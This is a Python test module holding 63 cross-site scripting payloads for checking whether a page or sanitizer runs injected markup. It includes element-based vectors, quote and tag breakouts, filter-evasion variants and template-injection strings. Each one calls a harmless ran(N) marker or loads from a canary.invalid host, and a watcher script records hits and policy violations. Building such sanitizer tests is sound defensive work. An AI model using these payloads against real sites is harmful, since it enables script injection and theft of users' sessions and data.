"""Texts that run a script, or load something, where a page takes them for more than text.

Each calls ``ran(NUMBER)``, or asks for something of the host ``canary.invalid``.
"""

from __future__ import annotations

CANARY = "canary.invalid"

WATCH = """
window.hits = []; window.violations = [];
window.ran = (number) => { window.hits.push(number); };
document.addEventListener('securitypolicyviolation', (event) => {
  window.violations.push(event.effectiveDirective);
});
"""
"""To be run before a page: what a payload did, and what the page's policy stopped."""

_ELEMENTS = [
    "<script>ran(N)</script>",
    "<script type=module>ran(N)</script>",
    "<script src=//canary.invalid/N.js></script>",
    "<script src='data:text/javascript,ran(N)'></script>",
    "<scr<script>ipt>ran(N)</scr</script>ipt>",
    "<svg><script>ran(N)</script></svg>",
    "<svg><script href='data:text/javascript,ran(N)'/></svg>",
    "<svg/onload=ran(N)>",
    "<svg><animate onbegin=ran(N) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran(N) />#x'/></svg>",
    "<svg><a href='javascript:ran(N)'><text y=20>click</text></a></svg>",
    "<math href='javascript:ran(N)'>click</math>",
    "<img src=x onerror=ran(N)>",
    "<img src=x onerror='ran(N)'//",
    "<img src=x onerror=&#114;an(N)>",
    "<img src=//canary.invalid/N.png>",
    "<img srcset='//canary.invalid/N.png 1x'>",
    "<video poster=//canary.invalid/N.png></video>",
    "<body onload=ran(N)>",
    "<details open ontoggle=ran(N)><summary>x</summary></details>",
    "<input autofocus onfocus=ran(N)>",
    "<iframe src='javascript:parent.ran(N)'></iframe>",
    "<iframe srcdoc='<script>parent.ran(N)</script>'></iframe>",
    "<iframe src='data:text/html,<script>parent.ran(N)</script>'></iframe>",
    "<iframe src=//canary.invalid/N></iframe>",
    "<object data='javascript:ran(N)'></object>",
    "<object data=//canary.invalid/N></object>",
    "<embed src=//canary.invalid/N>",
    "<link rel=stylesheet href=//canary.invalid/N.css>",
    "<link rel=icon href=//canary.invalid/N.ico>",
    "<link rel=preload as=script href=//canary.invalid/N.js>",
    "<base href='//canary.invalid/N/'><img src=x>",
    "<a href='javascript:ran(N)'>click</a>",
    "<a href='java&Tab;script:ran(N)'>click</a>",
    "<a href=x onclick='ran(N);return false'>click</a>",
    "<form action='javascript:ran(N)'><button>click</button></form>",
    "<form><button formaction='javascript:ran(N)'>click</button></form>",
    "<style>@import '//canary.invalid/N.css';</style>",
    "<style>body{background:url(//canary.invalid/N.png)}</style>",
    "<p style='background:url(//canary.invalid/N.png)'>x</p>",
    "<style>@keyframes x{}</style><p style='animation:x 1ms' onanimationstart=ran(N)>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=ran(N)>'></noscript>",
    "<template><s></template><img src=x onerror=ran(N)>",
]
_OUT_OF_CONTEXTS = [
    "'><script>ran(N)</script>",
    "\"><script>ran(N)</script>",
    "\"'><img src=x onerror=ran(N)>",
    "--><script>ran(N)</script><!--",
    "]]><script>ran(N)</script>",
    "</title><script>ran(N)</script>",
    "</style><script>ran(N)</script>",
    "</script><script>ran(N)</script>",
    "</textarea><script>ran(N)</script>",
    "</td></tr></table><script>ran(N)</script>",
    "\" autofocus onfocus=\"ran(N)\" x=\"",
    "' onmouseover='ran(N)' x='",
    "\" style=\"background:url(//canary.invalid/N.png)",
    "javascript:ran(N)",
    "';ran(N);//",
    "\\\";ran(N);//",
    "${ran(N)}",
    "`${ran(N)}`",
    "{{7*7}}{{ran(N)}}",
    "{% print 7*7 %}{# x #}<%= ran(N) %>",
]  # fmt: skip

PAYLOADS = [
    text.replace("(N)", f"({n})").replace("/N", f"/{n}")
    for n, text in enumerate([*_ELEMENTS, *_OUT_OF_CONTEXTS])
]
assert len(set(PAYLOADS)) == 63, len(PAYLOADS)
